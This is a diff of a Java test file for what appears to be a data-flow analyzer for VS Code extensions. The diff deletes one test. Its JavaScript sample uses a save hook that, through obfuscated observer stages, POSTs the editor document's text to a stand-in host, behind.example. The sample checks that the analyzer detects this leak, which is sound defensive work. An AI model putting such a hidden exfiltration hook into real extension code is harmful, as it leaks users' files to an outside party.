@@ -202,27 +202,6 @@ class StreamsAndPromisesTest {
         assertThat(analysis.flowNames()).contains("editor-document -> network-send");
     }
 
-    /** As the last subscribers of observables: what they call lies two objects further on. */
-    @Test
-    void followsEachStageThatIsToldApartOnlyByTheObjectsBehindIt() {
-        Analysis analysis = Analysis.ofActivate("""
-                class Stage {
-                  constructor(take) { this.destination = { observer: { next: take } }; }
-                  next(value) { if (!this.stopped) { name(value); this.hand(value); } }
-                  hand(value) { try { this.destination.observer.next(value); } catch (error) { name(error.stack); } }
-                }
-                const name = value => { const parts = String(value).split('/'); return parts.slice(0, 3).join('-').toLowerCase().trim(); };
-                for (let i = 0; i < 30; i++) new Stage(name).next(vscode.env.appName);
-                const shown = new Stage(text => console.log(name(text)));
-                const sent = new Stage(text => fetch('https://behind.example', { method: 'POST', body: text }));
-                vscode.workspace.onDidSaveTextDocument(document => {
-                  for (const stage of Math.random() > 0.5 ? [shown, sent] : []) stage.next(document.getText());
-                });
-                """);
-
-        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
-    }
-
     @Test
     void aFailureThatMayHappenTakesNothingAwayForCertain() {
         Analysis analysis = Analysis.ofActivate("""
